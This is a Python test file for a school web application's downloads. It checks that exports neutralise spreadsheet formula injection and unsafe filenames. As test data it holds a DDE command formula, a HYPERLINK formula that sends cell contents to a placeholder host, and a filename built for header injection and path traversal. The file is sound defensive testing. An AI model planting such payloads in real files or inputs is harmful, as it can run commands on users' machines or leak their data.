"""Every download of the application is safe with any text a user stored.

* No spreadsheet holds a formula made of user text: every cell from user data is a text cell
  (``=HYPERLINK(…)`` and ``=cmd|' /C calc'!A0`` are shown as typed, never computed), numbers
  are numbers and dates are dates.
* No download fails on text stored before the input rule (control characters, Word's soft
  line break): .xlsx and .docx are XML and cannot carry them, so they are cleaned on the way out.
* Every download is an attachment with its name safely encoded (RFC 5987), its content type
  (with ``charset=utf-8`` once, for text) and ``nosniff``.

The download endpoints are taken from the URL map and their URLs from the access matrix, so a
new export is checked without being listed here.
"""
from __future__ import annotations

import io
import re
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from sqlalchemy import literal, update

from shnor_app.extensions import db
from shnor_app.models import (
    AgendaItem, Course, InterviewSeries, JointEvent, Meeting, Municipality, Organization,
    Partnership, Recommendation, Roadmap, RoadmapItem, RoadmapSection, StaffMember, Visit,
    VisitLesson, VisitVisitor,
)
from shnor_app.services import exports

from tests.conftest import login, post
from tests.security import _areas

FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A1;"Подробнее")', "=cmd|' /C calc'!A0",
            "+1+2", "-3+4", "@SUM(A1:A2)", "=1+1"]
# What older rows may hold (PostgreSQL never stored NUL; SQLite may have).
STORED_DIRT = "\x0b\x01\x1f\x7f\ufffe"


def _sheet_xml(data: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        return "".join(z.read(n).decode() for n in z.namelist() if n.startswith("xl/worksheets/"))


def test_a_cell_writes_text_as_text_numbers_as_numbers_and_dates_as_dates():
    from openpyxl import load_workbook

    wb = exports.workbook()
    ws = exports.sheet(wb, "Лист=1", [30], first=True)
    exports.header(ws, ["Текст", "Число", "Дата"])
    for f in FORMULAS:
        exports.append(ws, [f + STORED_DIRT + "\x00", 5, date(2026, 2, 27)])
    exports.append(ws, [None, Decimal("2.5"), 1.25])
    data = exports.save(wb)
    assert "<f>" not in _sheet_xml(data) and "<f " not in _sheet_xml(data)
    ws = load_workbook(io.BytesIO(data)).active
    rows = list(ws.iter_rows(min_row=2))
    assert [r[0].value for r in rows[:-1]] == [f + "\n" for f in FORMULAS]
    assert {r[0].data_type for r in rows[:-1]} == {"s"}
    assert rows[0][1].value == 5 and rows[0][1].data_type == "n"
    assert rows[0][2].is_date and rows[0][2].number_format == "DD.MM.YYYY"
    assert rows[-1][1].value == 2.5 and rows[-1][2].value == 1.25
    assert ws.freeze_panes == "A2"


def test_a_write_only_sheet_is_written_the_same_way():
    wb = exports.workbook(write_only=True)
    ws = exports.sheet(wb, "Выявление", [40])
    exports.append(ws, ["=cmd|' /C calc'!A0", 3], bold=True)
    assert "<f>" not in _sheet_xml(exports.save(wb))


def test_only_the_export_helper_writes_workbooks():
    """One place writes .xlsx: a module that built its own ``Workbook`` would bring the
    formula hole back."""
    import pathlib

    import shnor_app

    root = pathlib.Path(shnor_app.__file__).parent
    writers = [str(p.relative_to(root)) for p in root.rglob("*.py")
               if re.search(r"openpyxl import .*\bWorkbook\b|WriteOnlyCell|\.append\(\s*\[",
                            p.read_text(encoding="utf-8")) and "openpyxl" in p.read_text()
               and p.name != "exports.py"]
    assert writers == []


# --------------------------------------------------------------------------- every download

# Display texts of the records the downloads show: each gets a formula and stored control
# characters in front of what it held.
POISONED = [
    (Organization, "short_name"), (Organization, "full_name"), (StaffMember, "full_name"),
    (Municipality, "name"), (Roadmap, "title"), (RoadmapSection, "title"),
    (RoadmapItem, "text"), (RoadmapItem, "executors"), (RoadmapItem, "period_text"),
    (Course, "title"), (InterviewSeries, "topic"), (Meeting, "director_name"),
    (AgendaItem, "title"), (Visit, "purpose"), (Visit, "findings"), (VisitVisitor, "full_name"),
    (VisitLesson, "teacher_name"), (Recommendation, "text"), (Partnership, "subject"),
    (JointEvent, "topic"),
]
PREFIX = "=cmd|' /C calc'!A0" + STORED_DIRT


def _poison():
    for model, column in POISONED:
        col = getattr(model, column)
        db.session.execute(update(model).where(col.is_not(None))
                           .values({column: literal(PREFIX) + col}))
    db.session.commit()


def _download_rules(app):
    """Endpoint → formats of every rule that answers with a document."""
    rules = {}
    for rule in app.url_map.iter_rules():
        if "<fmt>" in rule.rule:
            rules[rule.endpoint] = ("pdf", "xlsx", "docx", "json")
        else:
            m = re.search(r"\.(xlsx|pdf|docx|json|csv)$", rule.rule)
            if m:
                rules[rule.endpoint] = (m.group(1),)
    return rules


@pytest.fixture
def every_area(request, world):
    from tests.recsource import rec_source  # noqa: F401 - the recommendations' source

    extra = {}
    for area in _areas.AREAS:
        if area == "recommendations":
            continue  # its source is a test double; visits give recommendations too
        extra.update(_areas.build_extra(area, request))
    return extra


def test_every_download_is_safe_with_formulas_and_stored_control_characters(app, world,
                                                                          every_area):
    rules = _download_rules(app)
    assert len(rules) >= 12
    _poison()
    client = login(app.test_client(), world.users["admin"])
    seen, formula_texts, failures = set(), 0, []
    for area in _areas.AREAS:
        for case in _areas.cases(area):
            if case.endpoint not in rules or case.status_for("admin") != 200:
                continue
            base = case.url(world, every_area)
            for fmt in rules[case.endpoint]:
                url = re.sub(r"\.(xlsx|pdf|docx|json|csv)(?=$|\?)", "." + fmt, base, count=1)
                resp = (post(client, url) if case.method == "POST" else client.get(url))
                if resp.status_code == 404 and fmt not in base:
                    continue  # a format this document is not offered in
                seen.add(case.endpoint)
                if resp.status_code != 200:
                    failures.append((url, resp.status_code))
                    continue
                cd = resp.headers["Content-Disposition"]
                assert cd.startswith('attachment; filename="'), (url, cd)
                assert resp.headers["X-Content-Type-Options"] == "nosniff"
                assert resp.headers["Content-Type"].count("charset") <= 1
                if fmt == "xlsx":
                    xml = _sheet_xml(resp.data)
                    assert "<f>" not in xml and "<f " not in xml, url
                    formula_texts += xml.count("=cmd|")
                elif fmt == "docx":
                    from docx import Document

                    Document(io.BytesIO(resp.data))
                elif fmt == "pdf":
                    assert resp.data.startswith(b"%PDF")
    assert not failures, failures
    assert seen == set(rules), set(rules) - seen
    assert formula_texts >= 10  # the poisoned names are in the sheets, as text


def test_a_formula_typed_into_a_form_comes_back_as_text(world, login_as):
    from openpyxl import load_workbook

    from tests.views.test_roadmaps import make_roadmap

    rm, _, items = make_roadmap(world.school_a, 1)
    c = login_as("methodist")
    formula = FORMULAS[0]
    resp = post(c, f"/roadmaps/items/{items[0].id}/edit", {
        "number": "1.", "text": formula, "period_text": "март", "executors": "=cmd|' /C calc'!A0",
        "status": "NOT_STARTED"}, htmx=True)
    assert resp.status_code == 200
    data = c.get(f"/roadmaps/{rm.id}/export.xlsx").data
    cells = {c.value: c.data_type for row in load_workbook(io.BytesIO(data)).active.iter_rows()
             for c in row if c.value}
    assert cells[formula] == "s" and cells["=cmd|' /C calc'!A0"] == "s"


# --------------------------------------------------------------------------- the download helper


def test_download_names_are_safe_and_encoded(app):
    from shnor_app.web import send_download

    with app.test_request_context():
        resp = send_download(b"x", 'Протокол № 5 "итог"\r\n/../x.docx', "docx")
        cd = resp.headers["Content-Disposition"]
        assert "\r" not in cd and "\n" not in cd and "/" not in cd.split("''")[0]
        assert cd.startswith('attachment; filename="')
        assert "filename*=UTF-8''%D0%9F%D1%80%D0%BE%D1%82%D0%BE%D0%BA%D0%BE%D0%BB" in cd
        assert resp.headers["Content-Type"] == exports.MIMETYPES["docx"]
        assert resp.headers["X-Content-Type-Options"] == "nosniff"
        csv = send_download(b"a;b", "list.csv", "text/csv; charset=utf-8")
        assert csv.headers["Content-Type"] == "text/csv; charset=utf-8"
        assert csv.headers["Content-Disposition"] == 'attachment; filename="list.csv"'
        long = send_download(b"x", "Я" * 300 + ".xlsx", "xlsx")
        assert long.headers["Content-Disposition"].endswith(".xlsx")


def test_a_stored_csv_is_downloaded_with_one_charset(world, login_as):
    from tests.views.test_files import _upload

    c = login_as("methodist")
    assert _upload(c, world.school_a, "список.csv", "ФИО;класс\nИванов;5\n".encode()).status_code \
        == 200
    from sqlalchemy import select

    from shnor_app.models import Attachment

    att = db.session.scalar(select(Attachment))
    resp = c.get(f"/files/download/{att.id}")
    assert resp.status_code == 200 and resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert "filename*=UTF-8''%D1%81%D0%BF%D0%B8%D1%81%D0%BE%D0%BA.csv" in resp.headers[
        "Content-Disposition"]
